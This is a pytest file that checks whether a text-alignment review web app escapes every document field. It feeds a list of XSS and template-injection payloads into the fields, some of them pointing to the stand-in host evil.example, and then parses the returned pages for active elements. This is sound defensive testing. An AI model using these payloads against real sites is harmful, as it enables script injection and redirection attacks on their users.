"""Hostile text in every field of a document: the pages of the desk are built as with harmless text.

Each text field of an alignment is given each of the payloads, alone to see whether it is taken at all and
then all together; what the desk answers has to hold no other element that could do something than what a
harmless word makes.
"""

from __future__ import annotations

import json
import re
import warnings
from collections import Counter
from collections.abc import Iterator
from copy import deepcopy
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

import aligner
from aligner.model.errors import AlignerError

pytest.importorskip("starlette", reason="needs the extra `review`")
pytest.importorskip("httpx", reason="asks the desk")

from aligner.review.app import application
from aligner.review.desk import Desk

with warnings.catch_warnings():
    warnings.simplefilter("ignore")  # of httpx, whose next name is told
    from starlette.testclient import TestClient

HOST = "127.0.0.1:8765"
PAYLOADS = (
    "</script><script>hit()</script>",
    "<script src=//evil.example></script>",
    "<img src=x onerror=hit()>",
    "<svg/onload=hit()>",
    "<iframe srcdoc='<script>hit()</script>'></iframe>",
    '" autofocus onfocus=hit() x="',
    "' onmouseover=hit() x='",
    "javascript:hit()",
    "</textarea></title></style></template><b onclick=hit()>",
    "<!-- --><script>hit()//--></script>",
    "]]><script>hit()</script>",
    "{{ 7 * 7 }}{% raw %}${7 * 7}",
    "&lt;script&gt;hit()&lt;/script&gt; &#60;img src=x&#62;",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input name=x></form>",
    "<a href=data:text/html,hit>x</a>",
    "\u2028\u2029\u202e<b>\u2066",
    "x\x00<img src=x onerror=hit()>",
)
HARMLESS = "word"
KOREAN = ["시민 3만 명이 장터에 모였다.", "비는 오지 않았다.", "김민수 시장은 웃었다."]
ENGLISH = ["Some 300,000 citizens gathered.", "It rained.", "Mayor Lee Young-hee laughed."]
PAGE = "\n\n".join(
    (
        " ".join(KOREAN),
        "아래는 위 기사를 번역기로 옮긴 영문 전문입니다.",
        "Photo by A. Nobody",
        " ".join(ENGLISH),
    )
)


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where texts stand in the values of a file."""
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict | list):
        for key, inside in value.items() if isinstance(value, dict) else enumerate(value):
            yield from places(inside, (*path, key))


def put(values: Any, path: tuple[Any, ...], text: str) -> None:
    for key in path[:-1]:
        values = values[key]
    values[path[-1]] = text


def taken(values: dict[str, Any], text: str) -> list[tuple[Any, ...]]:
    """The fields that take a text without the file being refused."""
    found = []
    for path in places(values):
        changed = deepcopy(values)
        put(changed, path, text)
        try:
            aligner.Alignment.from_dict(changed)
        except AlignerError:
            continue
        found.append(path)
    return found


def hostile(values: dict[str, Any], fields: list[tuple[Any, ...]], text: str) -> bytes:
    changed = deepcopy(values)
    for path in fields:
        put(changed, path, text)
    return json.dumps(changed).encode()


class _Built(HTMLParser):
    """What a page could do: elements that run, load, send or take input, attributes that run or lead away."""

    ACTIVE = re.compile(
        "script|style|iframe|img|svg|form|input|textarea|template|base|meta|link|object|embed|video"
    )

    def __init__(self, page: str) -> None:
        super().__init__()
        self.active: Counter[str] = Counter()
        self.bad: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.ACTIVE.fullmatch(tag):
            self.active[tag] += 1
        for name, value in attrs:
            leads = name in ("href", "src", "action") and re.search("evil|hit|script:|data:", value or "")
            if name.startswith("on") or name in ("autofocus", "srcdoc", "style") or leads:
                self.bad.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag


@pytest.fixture(scope="module")
def documents() -> dict[str, dict[str, Any]]:
    """Of a page and of two lists, as files hold them."""
    return {"page": aligner.align_page(PAGE).to_dict(), "lists": aligner.align(KOREAN, ENGLISH).to_dict()}


@pytest.fixture
def editor(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[TestClient]:
    monkeypatch.setattr("aligner.review.opened.SHORT", 0)  # what the file says was found is shown as it is
    app = application(Desk([tmp_path]), frozenset({HOST}), token="secret")
    with TestClient(app, base_url=f"http://{HOST}", raise_server_exceptions=False) as client:
        client.headers["Authorization"] = "Bearer secret"
        yield client


def shown(editor: TestClient, content: bytes) -> list[str]:
    """All that the desk answers about a document."""
    address = editor.post("/documents?name=x.json", content=content).json()["address"]
    pages = [editor.get(address, headers={"Accept": "text/html"})]
    settled = editor.get(f"{address}/settled")
    report = editor.get(f"{address}/report.html")
    assert {answer.status_code for answer in (*pages, settled, report)} == {200}
    parts = settled.json()
    rest = "".join(parts[name] for name in ("rows", "head", "leading", "across", "tail"))
    return [*(page.text for page in pages), rest, report.text]


def test_the_fields_are_many(documents: dict[str, dict[str, Any]]) -> None:
    fields = sum(len(taken(values, HARMLESS)) for values in documents.values())
    assert fields > 100


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_field_builds_anything(
    editor: TestClient, documents: dict[str, dict[str, Any]], payload: str
) -> None:
    for values in documents.values():
        fields = taken(values, payload)
        expected = [_Built(page) for page in shown(editor, hostile(values, fields, HARMLESS))]
        for page, harmless in zip(shown(editor, hostile(values, fields, payload)), expected, strict=True):
            built = _Built(page)
            assert (built.active, built.bad) == (harmless.active, harmless.bad)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_builds_anything(editor: TestClient, payload: str) -> None:
    """The same in what is read and written: a page, its name, a rewritten sentence, a reason."""
    built = []
    for text in (HARMLESS, payload):
        page = PAGE.replace("장터", text).replace("citizens", text).encode()
        answer = editor.post("/documents", params={"name": f"{text}.txt"}, content=page)
        address = answer.json()["address"]
        edit = {"do": "edit", "side": "target", "sentence": 1, "text": f"Nobody {text} gathered."}
        answer = editor.post(f"{address}/changes", json={"revision": 0, "change": edit})
        (name, *_) = re.findall(r'data-id="([0-9a-f]+)"', editor.get(address).text)
        accept = {"do": "accept", "id": name, "reason": text}
        accepted = editor.post(f"{address}/changes", json={"revision": 1, "change": accept})
        assert answer.is_success
        assert accepted.is_success
        parts = (answer.json()["rows"], answer.json()["head"], editor.get(address).text)
        built.append([(_Built(part).active, _Built(part).bad) for part in parts])
    assert built[0] == built[1]
